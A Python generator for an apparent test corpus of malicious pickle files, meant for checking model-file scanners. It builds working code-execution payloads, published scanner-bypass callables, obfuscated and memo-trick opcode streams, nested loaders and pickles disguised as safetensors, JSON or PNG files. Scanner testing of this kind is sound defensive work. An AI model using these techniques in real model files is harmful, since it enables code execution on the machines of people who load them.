"""Malicious plain pickle streams: dangerous callables, denylist gaps, opcode tricks.

Every payload runs `touch <marker_dir>/pwned-<technique>` or Python source that
does the same; the corpus only dumps them and never loads them.
"""

import base64
import os
import pickle
import subprocess
import sys
import types
import zlib

from corpus_common import Writer
from corpus_pickleasm import PickleAsm, call, call_of, imported, payload_call


class Reduce:
    """An object whose pickle calls `func(*args)` when loaded."""

    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def dumps_call(func: object, args: tuple[object, ...], protocol: int) -> bytes:
    """What pickle.dumps writes for an object whose __reduce__ calls func(*args)."""
    return pickle.dumps(Reduce(func, args), protocol=protocol)


def build(w: Writer) -> None:
    _dangerous_callables(w)
    _denylist_gaps(w)
    _dotted_names(w)
    _memo_tricks(w)
    _instantiation_opcodes(w)
    _code_by_value(w)
    _nested_loaders(w)
    _broken_streams(w)
    _computed_names(w)
    _multiple_streams(w)
    _misleading_extensions(w)


def _dangerous_callables(w: Writer) -> None:
    t = "pickle-reduce-os-system"
    for proto in range(6):
        w.bad(
            f"pickle/os_system_p{proto}.pkl",
            dumps_call(os.system, (w.command(t),), proto),
            technique=t,
            fmt="pickle",
            note=f"pickle.dumps protocol {proto} of __reduce__ -> os.system (posix.system)",
        )
    for module in ("os", "nt", "posix"):
        w.bad(
            f"pickle/{module}_system_asm.pkl",
            payload_call(module, "system", w.command(t), protocol=2),
            technique=t,
            fmt="pickle",
            note=f"GLOBAL {module}.system then REDUCE",
        )
    w.bad(
        "pickle/os_popen.pkl",
        payload_call("os", "popen", w.command(t), protocol=4),
        technique=t,
        fmt="pickle",
        note="os.popen via STACK_GLOBAL",
    )
    w.bad(
        "pickle/os_execv.pkl",
        payload_call("os", "execv", "/bin/sh", ["sh", "-c", w.command(t)], protocol=3),
        technique=t,
        fmt="pickle",
        note="os.execv replaces the loading process",
    )

    t = "pickle-reduce-subprocess"
    for name, proto in (
        ("Popen", 2),
        ("check_output", 4),
        ("run", 5),
        ("call", 0),
        ("getoutput", 3),
    ):
        func = getattr(subprocess, name)
        args: tuple[object, ...] = (
            (w.command(t),) if name == "getoutput" else (["sh", "-c", w.command(t)],)
        )
        w.bad(
            f"pickle/subprocess_{name}_p{proto}.pkl",
            dumps_call(func, args, proto),
            technique=t,
            fmt="pickle",
            note=f"__reduce__ -> subprocess.{name}",
        )
    w.bad(
        "pickle/posixsubprocess_fork_exec.pkl",
        payload_call("_posixsubprocess", "fork_exec", ["sh"], protocol=4),
        technique=t,
        fmt="pickle",
        note="the private C helper under subprocess",
    )

    t = "pickle-reduce-exec-eval"
    src = w.python(t)
    for name, proto in (("exec", 0), ("exec", 4), ("eval", 2), ("eval", 5)):
        expr = src if name == "exec" else f"__import__('os').system({w.command(t)!r})"
        w.bad(
            f"pickle/builtins_{name}_p{proto}.pkl",
            payload_call("builtins", name, expr, protocol=proto),
            technique=t,
            fmt="pickle",
            note=f"builtins.{name} of Python source",
        )
    w.bad(
        "pickle/builtin_py2_eval.pkl",
        payload_call("__builtin__", "eval", "1", protocol=2),
        technique=t,
        fmt="pickle",
        note="Python 2 name __builtin__.eval, mapped to builtins by fix_imports",
    )
    w.bad(
        "pickle/compile_exec.pkl",
        PickleAsm(4)
        .call("builtins", "exec", call("builtins", "compile", src, "<corpus>", "exec"))
        .stop(),
        technique=t,
        fmt="pickle",
        note="exec(compile(source)): code built at load time",
    )

    t = "pickle-reduce-import"
    for proto in (2, 4):
        w.bad(
            f"pickle/dunder_import_p{proto}.pkl",
            PickleAsm(proto)
            .call_expr(
                call("builtins", "getattr", call("builtins", "__import__", "os"), "system"),
                w.command(t),
            )
            .stop(),
            technique=t,
            fmt="pickle",
            note="getattr(__import__('os'), 'system')(cmd)",
        )
    w.bad(
        "pickle/importlib_import_module.pkl",
        PickleAsm(4)
        .call_expr(
            call("builtins", "getattr", call("importlib", "import_module", "os"), "system"),
            w.command(t),
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="importlib.import_module reaches any module (picklescan PR #74 / issue #66)",
    )
    w.bad(
        "pickle/pkgutil_resolve_name.pkl",
        PickleAsm(4).call_expr(call("pkgutil", "resolve_name", "os:system"), w.command(t)).stop(),
        technique=t,
        fmt="pickle",
        note="universal bypass pkgutil.resolve_name (picklescan GHSA-vvpj-8cmc-gx39)",
    )

    t = "pickle-getattr-chain"
    w.bad(
        "pickle/getattr_subclasses.pkl",
        PickleAsm(4)
        .call("builtins", "getattr", call("builtins", "getattr", (), "__class__"), "__subclasses__")
        .stop(),
        technique=t,
        fmt="pickle",
        note="getattr walk to __subclasses__ without importing os",
    )
    w.bad(
        "pickle/getattr_globals.pkl",
        PickleAsm(2)
        .call("builtins", "getattr", imported("collections", "namedtuple"), "__globals__")
        .stop(),
        technique=t,
        fmt="pickle",
        note="getattr(func, '__globals__') reaches a module dict",
    )
    w.bad(
        "pickle/getattr_sys_modules.pkl",
        PickleAsm(4)
        .call_expr(
            call(
                "builtins",
                "getattr",
                call_of(call("builtins", "getattr", imported("sys", "modules"), "get"), "os"),
                "system",
            ),
            w.command(t),
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="sys.modules.get('os').system via getattr chain",
    )

    simple = [
        ("pickle-runpy", "runpy", "_run_code", (w.python("pickle-runpy"), {}), 4),
        ("pickle-runpy", "runpy", "run_path", ("/dev/null",), 2),
        (
            "pickle-pydoc-pipepager",
            "pydoc",
            "pipepager",
            ("", w.command("pickle-pydoc-pipepager")),
            3,
        ),
        (
            "pickle-pydoc-pipepager",
            "pydoc",
            "tempfilepager",
            ("", w.command("pickle-pydoc-pipepager")),
            4,
        ),
        ("pickle-timeit", "timeit", "timeit", (w.python("pickle-timeit"),), 4),
        ("pickle-timeit", "timeit", "repeat", (w.python("pickle-timeit"),), 0),
        ("pickle-cprofile", "cProfile", "run", (w.python("pickle-cprofile"),), 2),
        ("pickle-cprofile", "cProfile", "runctx", (w.python("pickle-cprofile"), {}, {}), 5),
        (
            "pickle-uuid-command",
            "uuid",
            "_get_command_stdout",
            ("sh", "-c", w.command("pickle-uuid-command")),
            4,
        ),
        ("pickle-pty-spawn", "pty", "spawn", (["sh", "-c", w.command("pickle-pty-spawn")],), 4),
        ("pickle-pty-spawn", "pty", "spawn", ("true",), 0),
        ("pickle-shutil", "shutil", "rmtree", (str(w.marker_dir / "victim"),), 4),
        ("pickle-shutil", "shutil", "copyfile", ("/etc/hostname", str(w.marker_dir / "x")), 2),
        ("pickle-file-write", "builtins", "open", (str(w.marker_dir / "pwned-open"), "w"), 4),
        ("pickle-file-write", "io", "open", (str(w.marker_dir / "pwned-io"), "w"), 2),
        ("pickle-socket", "socket", "create_connection", (("127.0.0.1", 9),), 4),
        ("pickle-socket", "socket", "socket", (), 2),
        ("pickle-http-client", "http.client", "HTTPConnection", ("127.0.0.1", 9), 4),
        ("pickle-http-client", "urllib.request", "urlopen", ("http://127.0.0.1:9/",), 3),
        ("pickle-webbrowser", "webbrowser", "open", ("http://127.0.0.1:9/",), 4),
        (
            "pickle-pip-main",
            "pip",
            "main",
            (["install", "--index-url", "http://127.0.0.1:9/", "nothing"],),
            4,
        ),
        (
            "pickle-pip-main",
            "pip._internal.cli.main",
            "main",
            (["install", "--index-url", "http://127.0.0.1:9/", "nothing"],),
            2,
        ),
        ("pickle-code-interpreter", "code", "interact", ("",), 4),
    ]
    for technique, module, name, args, proto in simple:
        stem = f"{module.replace('.', '_')}_{name}_p{proto}"
        w.bad(
            f"pickle/{stem}.pkl",
            payload_call(module, name, *args, protocol=proto),
            technique=technique,
            fmt="pickle",
            note=f"REDUCE of {module}.{name}",
        )

    t = "pickle-code-interpreter"
    w.bad(
        "pickle/interactive_interpreter_runsource.pkl",
        PickleAsm(4)
        .call_expr(
            call("builtins", "getattr", call("code", "InteractiveInterpreter"), "runsource"),
            w.python(t),
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="code.InteractiveInterpreter().runsource(source)",
    )
    w.bad(
        "pickle/interactive_interpreter_runsource_p0.pkl",
        PickleAsm(0)
        .call_expr(
            call("builtins", "getattr", call("code", "InteractiveInterpreter"), "runsource"),
            w.python(t),
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="same as protocol 0 text pickle",
    )

    t = "pickle-ctypes"
    w.bad(
        "pickle/ctypes_cdll_system.pkl",
        PickleAsm(4)
        .call_expr(
            call("builtins", "getattr", call("ctypes", "CDLL", None), "system"),
            w.command(t).encode(),
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="ctypes.CDLL(None).system(cmd): libc directly",
    )
    w.bad(
        "pickle/ctypes_pythonapi.pkl",
        PickleAsm(3)
        .call("builtins", "getattr", imported("ctypes", "pythonapi"), "PyRun_SimpleString")
        .stop(),
        technique=t,
        fmt="pickle",
        note="ctypes.pythonapi.PyRun_SimpleString",
    )

    t = "pickle-operator-attrgetter"
    for module in ("operator", "_operator"):
        w.bad(
            f"pickle/{module}_attrgetter.pkl",
            PickleAsm(4)
            .call_expr(
                call_of(
                    call(module, "attrgetter", "system"), call("importlib", "import_module", "os")
                ),
                w.command(t),
            )
            .stop(),
            technique=t,
            fmt="pickle",
            note=f"{module}.attrgetter('system')(os module) (picklescan _operator advisory)",
        )
    w.bad(
        "pickle/operator_methodcaller.pkl",
        PickleAsm(4)
        .call_expr(
            call("operator", "methodcaller", "system", w.command(t)),
            call("importlib", "import_module", "os"),
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="operator.methodcaller('system', cmd)(os)",
    )

    t = "pickle-functools-partial"
    w.bad(
        "pickle/functools_partial.pkl",
        PickleAsm(4)
        .call_expr(call("functools", "partial", imported("os", "system"), w.command(t)))
        .stop(),
        technique=t,
        fmt="pickle",
        note="functools.partial(os.system, cmd)()",
    )
    w.bad(
        "pickle/functools_reduce.pkl",
        PickleAsm(2).call("functools", "reduce", imported("builtins", "eval"), ["1"], None).stop(),
        technique=t,
        fmt="pickle",
        note="functools.reduce driving eval",
    )


def _denylist_gaps(w: Writer) -> None:
    """Callables published as picklescan/modelscan/fickling bypasses."""
    t = "pickle-denylist-gap"
    src = w.python(t)
    gaps = [
        (
            "asyncio.unix_events",
            "_UnixSubprocessTransport._start",
            (None, w.command(t), True, None, None, None, 0),
            4,
            "asyncio subprocess transport (picklescan asyncio advisory)",
        ),
        (
            "asyncio.subprocess",
            "create_subprocess_shell",
            (w.command(t),),
            4,
            "asyncio.subprocess.create_subprocess_shell",
        ),
        (
            "idlelib.autocomplete",
            "AutoComplete.get_entity",
            (None, src),
            4,
            "idlelib AutoComplete.get_entity evaluates its argument (picklescan advisory)",
        ),
        ("idlelib.calltip", "Calltip.fetch_tip", (None, src), 4, "idlelib Calltip.fetch_tip"),
        (
            "idlelib.pyshell",
            "ModifiedInterpreter.runcode",
            (None, src),
            4,
            "idlelib pyshell ModifiedInterpreter.runcode",
        ),
        (
            "lib2to3.pgen2.grammar",
            "Grammar.loads",
            (None, b"\x80\x04N."),
            4,
            "lib2to3 Grammar.loads unpickles (picklescan advisory)",
        ),
        (
            "lib2to3.pgen2.pgen",
            "ParserGenerator.make_label",
            (None, None, src),
            4,
            "lib2to3 pgen make_label evals a label (picklescan advisory)",
        ),
        (
            "distutils.file_util",
            "write_file",
            (str(w.marker_dir / "pwned-distutils"), ["x"]),
            2,
            "distutils.file_util.write_file writes any file (picklescan advisory)",
        ),
        ("distutils.spawn", "spawn", (["sh", "-c", w.command(t)],), 2, "distutils.spawn"),
        (
            "ensurepip",
            "_run_pip",
            (["--version"],),
            4,
            "ensurepip._run_pip (picklescan GHSA-xp4f-hrf8-rxw7)",
        ),
        ("bdb", "Bdb.run", (None, src), 4, "bdb.Bdb.run executes source"),
        ("pdb", "Pdb.run", (None, src), 4, "pdb.Pdb.run executes source"),
        ("pdb", "run", (src,), 2, "pdb.run executes source"),
        ("trace", "Trace.run", (None, src), 4, "trace.Trace.run executes source"),
        ("profile", "Profile.run", (None, src), 4, "profile.Profile.run executes source"),
        ("profile", "run", (src,), 2, "profile.run executes source"),
        (
            "numpy.testing._private.utils",
            "runstring",
            (src, {}),
            4,
            "numpy.testing runstring exec()s (picklescan advisory)",
        ),
        (
            "torch.utils._config_module",
            "ConfigModule.load_config",
            (None, b"\x80\x04N."),
            4,
            "torch ConfigModule.load_config unpickles bytes (picklescan advisory)",
        ),
        (
            "torch._dynamo.guards",
            "GuardBuilder.get",
            (None, src),
            4,
            "torch._dynamo GuardBuilder.get evals (picklescan/modelscan advisories)",
        ),
        (
            "torch.fx.experimental.symbolic_shapes",
            "ShapeEnv.evaluate_guards_expression",
            (None, src, []),
            4,
            "torch ShapeEnv.evaluate_guards_expression evals",
        ),
        (
            "torch.jit.unsupported_tensor_ops",
            "execWrapper",
            (src, {}, {}),
            4,
            "torch.jit.unsupported_tensor_ops.execWrapper exec()s (picklescan advisory)",
        ),
        (
            "torch._inductor.codecache",
            "compile_file",
            ("/dev/null", "/dev/null", []),
            4,
            "torch._inductor.codecache.compile_file runs a compiler (picklescan; older torch)",
        ),
        (
            "torch._inductor.cpp_builder",
            "run_compile_cmd",
            (w.command(t), "/tmp"),
            4,
            "torch 2.x cpp_builder.run_compile_cmd runs a shell command line",
        ),
        (
            "torch.utils.bottleneck.__main__",
            "run_cprofile",
            (src, {}),
            4,
            "torch.utils.bottleneck run_cprofile exec()s (picklescan advisory; older torch)",
        ),
        (
            "torch.serialization",
            "load",
            ("/dev/null",),
            2,
            "torch.serialization.load of a path: a second-stage loader",
        ),
        (
            "_pickle",
            "loads",
            (b"\x80\x04N.",),
            4,
            "_pickle.loads where denylists only list pickle.loads",
        ),
        (
            "multiprocessing.util",
            "spawnv_passfds",
            ("/bin/sh", ["sh", "-c", "true"], []),
            4,
            "multiprocessing.util.spawnv_passfds",
        ),
        (
            "site",
            "addpackage",
            ("/tmp", "x.pth", None),
            3,
            "site.addpackage executes import lines of a .pth file",
        ),
        ("sys", "breakpointhook", (), 4, "sys.breakpointhook drops into a debugger"),
        ("builtins", "breakpoint", (), 2, "builtins.breakpoint"),
        (
            "shelve",
            "open",
            (str(w.marker_dir / "pwned-shelve"),),
            4,
            "shelve.open unpickles a database",
        ),
        (
            "ssl",
            "get_server_certificate",
            (("127.0.0.1", 9),),
            4,
            "ssl.get_server_certificate: network from a model file",
        ),
    ]
    for module, name, args, proto, note in gaps:
        # bytes need protocol 3+, dotted names (Class.method) need STACK_GLOBAL (4+)
        needs_4 = "." in name or any(isinstance(a, bytes) for a in args)
        stem = f"{module.replace('.', '_')}_{name.replace('.', '_')}"
        data = payload_call(module, name, *args, protocol=max(proto, 4) if needs_4 else proto)
        w.bad(f"pickle/gaps/{stem}.pkl", data, technique=t, fmt="pickle", note=note)


def _dotted_names(w: Writer) -> None:
    """STACK_GLOBAL names with dots resolve attributes of a re-exporting module."""
    t = "pickle-dotted-reexport"
    for module, name in (
        ("numpy.testing._private.utils", "os.system"),
        ("torch", "os.system"),
        ("torch.serialization", "os.system"),
        ("shutil", "os.system"),
        ("tempfile", "_os.system"),
        ("logging", "os.system"),
        ("numpy", "testing._private.utils.runstring"),
    ):
        w.bad(
            f"pickle/dotted/{module.replace('.', '_')}__{name.replace('.', '_')}.pkl",
            payload_call(module, name, w.command(t), protocol=4),
            technique=t,
            fmt="pickle",
            note=f"STACK_GLOBAL {module!r} {name!r}: a dotted name walks to a dangerous callable",
        )
    t = "pickle-dotted-framework-walk"
    marker = str(w.marker_dir / f"pwned-{t}")
    for module, name, expect in (
        # joblib.logger.PrintTime(logfile) creates (and truncates) the file it is given.
        ("sklearn.utils.parallel", "joblib.PrintTime", "malicious"),
        # logging.FileHandler(path) creates or truncates its file.
        ("torch.nn.modules._functions", "dist.logging.FileHandler", "malicious"),
        # Not known to be harmful, but far from any model class: the walk is the finding.
        ("sklearn.utils.parallel", "joblib.Logger", "suspicious"),
    ):
        w.bad(
            f"pickle/dotted/{module.replace('.', '_')}__{name.replace('.', '_')}.pkl",
            payload_call(module, name, marker, protocol=4),
            technique=t,
            fmt="pickle",
            expect=expect,
            note=f"STACK_GLOBAL {module!r} {name!r}: a CamelCase name under a framework "
            "namespace reached through an imported module, not a model class",
        )
    w.bad(
        "pickle/sklearn_externals_torch_filecheck.pkl",
        payload_call("sklearn.externals.array_api_compat.torch", "FileCheck", protocol=4),
        technique=t,
        fmt="pickle",
        expect="suspicious",
        note="sklearn.externals.array_api_compat.torch re-exports all of torch: its "
        "CamelCase names are not scikit-learn classes",
    )


def _memo_tricks(w: Writer) -> None:
    t = "pickle-memo-tricks"
    cmd = w.command(t)
    # The module and name strings reach STACK_GLOBAL from the memo, not from string opcodes.
    a = PickleAsm(4).string("os").memoize().string("system").memoize().pop().pop()
    a.get(0).get(1).raw(b"\x93").tuple_(cmd).reduce()
    w.bad(
        "pickle/memo/stack_global_from_memo.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="STACK_GLOBAL operands fetched from memo (picklescan issue #22)",
    )
    # BINPUT and MEMOIZE mixed so a naive memo model believes slot 0 holds torch._utils.
    a = PickleAsm(4).string("os").put(0).pop().string("system").put(1).pop()
    a.string("torch._utils").memoize().pop().string("_rebuild_tensor_v2").memoize().pop()
    a.get(0).get(1).raw(b"\x93").tuple_(cmd).reduce()
    w.bad(
        "pickle/memo/put_memoize_confusion.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="BINPUT/MEMOIZE mix confuses memo tracking (picklescan issue #14)",
    )
    # Slots first hold safe names, then are overwritten by PUT after a GET read them.
    a = PickleAsm(4).string("torch._utils").put(0).string("_rebuild_tensor_v2").put(1)
    a.raw(b"\x93").pop().get(0).pop()
    a.string("os").put(0).pop().string("system").put(1).pop()
    a.get(0).get(1).raw(b"\x93").tuple_(cmd).reduce()
    w.bad(
        "pickle/memo/put_after_get_overwrite.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="memo slots overwritten by PUT after GET: first read looks safe",
    )
    # A memo'd global is fetched back with BINGET and only then called.
    a = PickleAsm(2).global_("posix", "system").put(7).pop()
    a.string("harmless").pop().get(7).tuple_(cmd).reduce()
    w.bad(
        "pickle/memo/binget_global_reduce.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="GLOBAL memoised, popped, fetched back by BINGET, then REDUCE",
    )
    a = PickleAsm(3).global_("os", "system").put(300).pop().get(300).tuple_(cmd).reduce()
    w.bad(
        "pickle/memo/long_binget.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="LONG_BINPUT/LONG_BINGET of the global",
    )
    a = PickleAsm(0).global_("os", "system").put(3).pop().get(3).tuple_(cmd).reduce()
    w.bad(
        "pickle/memo/text_put_get_p0.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="protocol 0 PUT/GET text opcodes around the global",
    )

    t = "pickle-extension-registry"
    w.bad(
        "pickle/ext1_code.pkl",
        PickleAsm(2).raw(b"\x82\x01").tuple_(cmd).reduce().stop(),
        technique=t,
        fmt="pickle",
        expect="suspicious",
        note="EXT1 imports through copyreg's extension registry: unresolvable statically",
    )
    w.bad(
        "pickle/ext4_code.pkl",
        PickleAsm(2).raw(b"\x84\x39\x30\x00\x00").tuple_(cmd).reduce().stop(),
        technique=t,
        fmt="pickle",
        expect="suspicious",
        note="EXT4 extension code 12345",
    )


def _instantiation_opcodes(w: Writer) -> None:
    t = "pickle-inst-obj-newobj"
    cmd = w.command(t)
    w.bad(
        "pickle/inst/inst_os_system.pkl",
        b"(V" + cmd.encode() + b"\nios\nsystem\n.",
        technique=t,
        fmt="pickle",
        note="INST imports and calls in one opcode (picklescan issue #13)",
    )
    w.bad(
        "pickle/inst/inst_builtins_eval.pkl",
        b"(S'1'\nibuiltins\neval\n.",
        technique=t,
        fmt="pickle",
        note="INST builtins.eval (picklescan issue #13)",
    )
    a = PickleAsm(2).mark().global_("subprocess", "getoutput").string(cmd).raw(b"o")
    w.bad(
        "pickle/inst/obj_subprocess.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="OBJ calls the class/callable below the mark",
    )
    a = PickleAsm(2).global_("subprocess", "Popen").tuple_(["sh", "-c", cmd]).raw(b"\x81")
    w.bad(
        "pickle/inst/newobj_popen.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="NEWOBJ of subprocess.Popen",
    )
    a = PickleAsm(4).import_("subprocess", "Popen").tuple_(["sh", "-c", cmd])
    a.arg({"shell": False}).raw(b"\x92")
    w.bad(
        "pickle/inst/newobj_ex_popen.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="NEWOBJ_EX with keyword arguments",
    )

    t = "pickle-build-setstate"
    a = PickleAsm(2).global_("argparse", "Namespace").raw(b")\x81")
    a.arg({"__setstate__": imported("os", "system")}).build().string(w.command(t)).build()
    w.bad(
        "pickle/build/setstate_os_system.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="BUILD plants __setstate__=os.system in the instance dict, 2nd BUILD calls it",
    )
    a = PickleAsm(4).import_("types", "SimpleNamespace").raw(b")\x81")
    a.arg({"__setstate__": imported("builtins", "exec")}).build()
    a.string(w.python(t)).build()
    w.bad(
        "pickle/build/setstate_exec.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="BUILD with __setstate__=builtins.exec",
    )
    a = PickleAsm(4).import_("argparse", "Namespace").raw(b")\x81")
    a.tuple_(None, {"__reduce_ex__": imported("os", "system")}).build()
    w.bad(
        "pickle/build/slotstate_attr.pkl",
        a.stop(),
        technique=t,
        fmt="pickle",
        note="BUILD slot state (None, {...}) sets attributes to a dangerous callable",
    )


def _code_by_value(w: Writer) -> None:
    import marshal

    import cloudpickle

    t = "pickle-code-by-value"
    code = compile(w.python(t), "<corpus>", "exec")
    w.bad(
        "pickle/code/marshal_function.pkl",
        PickleAsm(4)
        .call_expr(call("types", "FunctionType", call("marshal", "loads", marshal.dumps(code)), {}))
        .stop(),
        technique=t,
        fmt="pickle",
        note="types.FunctionType(marshal.loads(bytes), {})()",
    )
    w.bad(
        "pickle/code/codetype.pkl",
        PickleAsm(4).call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), ()).stop(),
        technique=t,
        fmt="pickle",
        note="types.CodeType built from raw fields",
    )

    # A function defined in a fresh "__main__" namespace is pickled by value.
    namespace: dict[str, object] = {"__name__": "__main__", "os": os}
    exec(
        f"def payload():\n    os.system({w.command(t)!r})\n"
        f"lam = lambda: os.system({w.command(t)!r})\n",
        namespace,
    )
    func = namespace["payload"]
    lam = namespace["lam"]
    assert isinstance(func, types.FunctionType)
    # Importing dill registers its picklers into pickle._Pickler (which joblib uses);
    # undo that so files dumped later by other frameworks stay as they would be.
    dill_was_extended = "dill" in sys.modules
    import dill

    w.bad(
        "pickle/code/dill_function.pkl",
        dill.dumps(func),
        technique=t,
        fmt="dill",
        note="dill.dumps of a function calling os.system (code by value)",
    )
    w.bad(
        "pickle/code/dill_lambda.dill",
        dill.dumps(lam, recurse=True),
        technique=t,
        fmt="dill",
        note="dill.dumps of a lambda, recurse=True",
    )
    w.bad(
        "pickle/code/cloudpickle_function.pkl",
        cloudpickle.dumps(func),
        technique=t,
        fmt="cloudpickle",
        note="cloudpickle.dumps of a function calling os.system",
    )
    w.bad(
        "pickle/code/cloudpickle_lambda.pkl",
        cloudpickle.dumps({"fn": lam}, protocol=4),
        technique=t,
        fmt="cloudpickle",
        note="cloudpickle lambda nested in a dict",
    )
    if not dill_was_extended:
        dill.extend(False)


def _nested_loaders(w: Writer) -> None:
    t = "pickle-nested-loader"
    inner = dumps_call(os.system, (w.command(t),), 4)
    loaders = [
        ("pickle_loads", call("pickle", "loads", inner), "pickle.loads(inner payload)"),
        ("_pickle_loads", call("_pickle", "loads", inner), "_pickle.loads(inner payload)"),
        (
            "torch_load_bytesio",
            call("torch", "load", call("io", "BytesIO", inner), None, None, False),
            "torch.load(io.BytesIO(inner), weights_only=False)",
        ),
        (
            "torch_load_from_bytes",
            call("torch.storage", "_load_from_bytes", inner),
            "torch.storage._load_from_bytes(inner)",
        ),
        (
            "numpy_load",
            call("numpy", "load", call("io", "BytesIO", inner), None, True),
            "numpy.load(io.BytesIO(..), allow_pickle=True)",
        ),
        (
            "base64_pickle",
            call("pickle", "loads", call("base64", "b64decode", base64.b64encode(inner).decode())),
            "pickle.loads(base64.b64decode(str))",
        ),
        (
            "zlib_pickle",
            call("pickle", "loads", call("zlib", "decompress", zlib.compress(inner))),
            "pickle.loads(zlib.decompress(bytes))",
        ),
        ("marshal_loads", call("marshal", "loads", b"\xe3"), "marshal.loads of bytes"),
        ("dill_loads", call("dill", "loads", inner), "dill.loads(inner payload)"),
        (
            "joblib_load",
            call("joblib", "load", call("io", "BytesIO", inner)),
            "joblib.load(io.BytesIO(inner))",
        ),
    ]
    for stem, expr, note in loaders:
        w.bad(
            f"pickle/nested/{stem}.pkl",
            PickleAsm(4).arg(expr).stop(),
            technique=t,
            fmt="pickle",
            note=note,
        )


def _broken_streams(w: Writer) -> None:
    t = "pickle-broken-stream"
    body = PickleAsm(2).global_("os", "system").tuple_(w.command(t)).reduce().value()
    w.bad(
        "pickle/broken/invalid_opcode_after.pkl",
        body + b"\xff\xfe.",
        technique=t,
        fmt="pickle",
        note="payload, then an invalid opcode: loaders already ran it",
    )
    w.bad(
        "pickle/broken/truncated_after_reduce.pkl",
        body,
        technique=t,
        fmt="pickle",
        note="stream ends right after REDUCE: no STOP",
    )
    w.bad(
        "pickle/broken/truncated_string.pkl",
        body + b"X\xff\x00\x00\x00abc",
        technique=t,
        fmt="pickle",
        note="payload, then a string whose length runs past the end",
    )
    w.bad(
        "pickle/broken/stack_underflow.pkl",
        body + b"0000R.",
        technique=t,
        fmt="pickle",
        note="payload, then pops past the bottom of the stack",
    )
    w.bad(
        "pickle/broken/payload_then_bad_protocol.pkl",
        body + b"\x80\x09.",
        technique=t,
        fmt="pickle",
        note="payload, then PROTO 9 mid-stream: the loader fails only after the call",
    )
    w.bad(
        "pickle/broken/bad_protocol_header.pkl",
        b"\x80\x09" + PickleAsm(4, header=False).call("os", "system", "true").stop(),
        technique=t,
        fmt="pickle",
        expect="suspicious",
        note="protocol 9 header: CPython refuses it before the payload, still not a model",
    )


def _misleading_extensions(w: Writer) -> None:
    t = "misleading-extension"
    data = dumps_call(os.system, (w.command(t),), 4)
    for relpath in (
        "model.safetensors",
        "weights.npy",
        "README.txt",
        "config.json",
        "model.onnx",
        "model.gguf",
        "logo.png",
        "tokenizer",
    ):
        w.bad(
            f"disguised/{relpath}",
            data,
            technique=t,
            fmt="pickle",
            note=f"malicious pickle named {relpath}",
        )


def _computed_names(w: Writer) -> None:
    """Module and attribute names built at load time: no dangerous string in the bytes."""
    t = "pickle-computed-names"
    cmd = w.command(t)
    joined = call_of(call("builtins", "getattr", "", "join"), ["o", "s"])
    w.bad(
        "pickle/computed/str_join_module.pkl",
        PickleAsm(4)
        .call_expr(
            call("builtins", "getattr", call("importlib", "import_module", joined), "system"),
            cmd,
        )
        .stop(),
        technique=t,
        fmt="pickle",
        note="import_module(''.join(['o','s'])).system: the module name is never a literal",
    )
    rot13 = call("codecs", "decode", "flfgrz", "rot13")
    w.bad(
        "pickle/computed/rot13_attr.pkl",
        PickleAsm(4)
        .call_expr(call("builtins", "getattr", call("builtins", "__import__", "os"), rot13), cmd)
        .stop(),
        technique=t,
        fmt="pickle",
        note="getattr(os, codecs.decode('flfgrz', 'rot13')): attribute hidden by rot13",
    )
    concat = call("operator", "add", "ev", "al")
    w.bad(
        "pickle/computed/operator_add_builtin.pkl",
        PickleAsm(2)
        .call_expr(call("builtins", "getattr", imported("builtins", "__dict__"), "get"), concat)
        .stop(),
        technique=t,
        fmt="pickle",
        note="builtins.__dict__.get(operator.add('ev', 'al')): name assembled at load time",
    )


def _multiple_streams(w: Writer) -> None:
    """Loaders that call pickle.load in a loop run every pickle in the file."""
    t = "pickle-multiple-streams"
    evil = dumps_call(os.system, (w.command(t),), 2)
    first = pickle.dumps({"epoch": 3, "lr": 0.01}, protocol=2)
    w.bad(
        "pickle/multi/benign_then_payload.pkl",
        first + evil,
        technique=t,
        fmt="pickle",
        note="a clean pickle, then a second pickle with the payload after its STOP",
    )
    w.bad(
        "pickle/multi/three_streams.pkl",
        first + pickle.dumps([1, 2, 3], protocol=4) + evil,
        technique=t,
        fmt="pickle",
        note="payload in the third of three concatenated pickles",
    )
